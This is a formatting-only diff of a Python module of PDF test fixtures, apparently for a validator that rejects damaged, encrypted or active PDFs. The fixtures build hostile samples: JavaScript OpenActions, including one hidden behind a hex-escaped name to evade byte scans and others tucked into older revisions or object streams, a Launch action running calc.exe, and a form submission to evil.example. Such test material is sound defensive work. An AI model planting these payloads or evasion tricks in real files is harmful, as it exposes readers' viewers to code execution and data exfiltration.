@@ -28,6 +28,7 @@ LETTER = (612, 792)
 
 # --- helpers ------------------------------------------------------------------------------------
 
+
 def _name(value: str) -> NameObject:
     return NameObject(value)
 
@@ -101,6 +102,7 @@ ONE_PAGE_TREE = [
 
 # --- valid files --------------------------------------------------------------------------------
 
+
 def one_page() -> bytes:
     """A valid one-page PDF with a little text."""
     writer = _writer()
@@ -132,15 +134,22 @@ def scan_10mb(page_count: int = 4) -> bytes:
     for index, page in enumerate(writer.pages):
         image = DecodedStreamObject()
         image.set_data(rng.randbytes(width * height * 3))
-        image.update({
-            _name("/Type"): _name("/XObject"), _name("/Subtype"): _name("/Image"),
-            _name("/Width"): NumberObject(width), _name("/Height"): NumberObject(height),
-            _name("/ColorSpace"): _name("/DeviceRGB"), _name("/BitsPerComponent"): NumberObject(8),
-        })
+        image.update(
+            {
+                _name("/Type"): _name("/XObject"),
+                _name("/Subtype"): _name("/Image"),
+                _name("/Width"): NumberObject(width),
+                _name("/Height"): NumberObject(height),
+                _name("/ColorSpace"): _name("/DeviceRGB"),
+                _name("/BitsPerComponent"): NumberObject(8),
+            }
+        )
         image_ref = writer._add_object(image.flate_encode(level=1))
-        page[_name("/Resources")] = DictionaryObject({
-            _name("/XObject"): DictionaryObject({_name(f"/Im{index}"): image_ref}),
-        })
+        page[_name("/Resources")] = DictionaryObject(
+            {
+                _name("/XObject"): DictionaryObject({_name(f"/Im{index}"): image_ref}),
+            }
+        )
         content = DecodedStreamObject()
         content.set_data(b"q 612 0 0 357 0 217 cm /Im%d Do Q" % index)
         page[_name("/Contents")] = writer._add_object(content)
@@ -148,6 +157,7 @@ def scan_10mb(page_count: int = 4) -> bytes:
 
 
 # --- rejected: not a PDF, damaged, too big ------------------------------------------------------
+
 
 def empty() -> bytes:
     return b""
@@ -195,22 +205,27 @@ def circular_xref() -> bytes:
 
 def self_referencing_page_tree() -> bytes:
     """The page tree's /Kids contains the tree itself: a reference cycle."""
-    return raw_pdf([
-        b"<< /Type /Catalog /Pages 2 0 R >>",
-        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
-    ])
+    return raw_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+        ]
+    )
 
 
 def self_referencing_object() -> bytes:
     """The catalog's /Pages is an object that is only a reference to itself."""
-    return raw_pdf([
-        b"<< /Type /Catalog /Pages 2 0 R >>",
-        b"2 0 R",
-    ])
+    return raw_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"2 0 R",
+        ]
+    )
 
 
 # --- rejected: encrypted ------------------------------------------------------------------------
+
 
 def encrypted_with_user_password() -> bytes:
     writer = _writer()
@@ -232,6 +247,7 @@ def encrypted_rc4() -> bytes:
 
 
 # --- rejected: JavaScript -----------------------------------------------------------------------
+
 
 def javascript_open_action() -> bytes:
     return _with_root_entry("/OpenAction", _javascript())
@@ -280,10 +296,12 @@ def javascript_unreferenced_object() -> bytes:
 
 def javascript_hex_escaped_name() -> bytes:
     """/J#61vaScript is /JavaScript once the name is decoded; a byte search would miss it."""
-    return raw_pdf([
-        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
-        *ONE_PAGE_TREE[1:],
-    ])
+    return raw_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
+            *ONE_PAGE_TREE[1:],
+        ]
+    )
 
 
 def javascript_in_older_revision() -> bytes:
@@ -291,17 +309,22 @@ def javascript_in_older_revision() -> bytes:
 
     pypdf reads only the newest revision, but a viewer that rebuilds a broken xref sees both.
     """
-    original = raw_pdf([
-        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
-        *ONE_PAGE_TREE[1:],
-    ])
+    original = raw_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
+            *ONE_PAGE_TREE[1:],
+        ]
+    )
     previous_xref = int(original.rsplit(b"startxref\n", 1)[1].split()[0])
     update = bytearray(original)
     catalog_at = len(update)
     update += b"1 0 obj\n" + ONE_PAGE_TREE[0] + b"\nendobj\n"
     xref_at = len(update)
     update += b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n" % catalog_at
-    update += b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous_xref, xref_at)
+    update += b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
+        previous_xref,
+        xref_at,
+    )
     return bytes(update)
 
 
@@ -321,7 +344,9 @@ def javascript_in_object_stream() -> bytes:
         offsets.append(len(out))
         out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
     offsets.append(len(out))  # object 5: the object stream
-    out += b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(objstm_data)
+    out += b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(
+        objstm_data
+    )
     out += objstm_data + b"\nendstream\nendobj\n"
     xref_at = len(out)
     rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
@@ -337,12 +362,15 @@ def javascript_in_object_stream() -> bytes:
 
 # --- rejected: actions --------------------------------------------------------------------------
 
+
 def launch_action() -> bytes:
     return _with_root_entry("/OpenAction", _dict(S="/Launch", F="C:\\Windows\\System32\\calc.exe"))
 
 
 def submit_form_action() -> bytes:
-    return _with_annotation(_dict(Subtype="/Link", A=_dict(S="/SubmitForm", F="https://evil.example/collect")))
+    return _with_annotation(
+        _dict(Subtype="/Link", A=_dict(S="/SubmitForm", F="https://evil.example/collect"))
+    )
 
 
 def import_data_action() -> bytes:
@@ -358,6 +386,7 @@ def remote_goto_action() -> bytes:
 
 
 # --- rejected: embedded files and XFA -----------------------------------------------------------
+
 
 def embedded_file() -> bytes:
     writer = _writer()
@@ -383,14 +412,17 @@ def xfa_form() -> bytes:
     writer = _writer()
     xdp = DecodedStreamObject()
     xdp.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
-    writer._root_object[_name("/AcroForm")] = DictionaryObject({
-        _name("/Fields"): ArrayObject(),
-        _name("/XFA"): writer._add_object(xdp),
-    })
+    writer._root_object[_name("/AcroForm")] = DictionaryObject(
+        {
+            _name("/Fields"): ArrayObject(),
+            _name("/XFA"): writer._add_object(xdp),
+        }
+    )
     return _bytes(writer)
 
 
 # --- rejected: pages and size -------------------------------------------------------------------
+
 
 def zero_pages() -> bytes:
     return _bytes(PdfWriter())
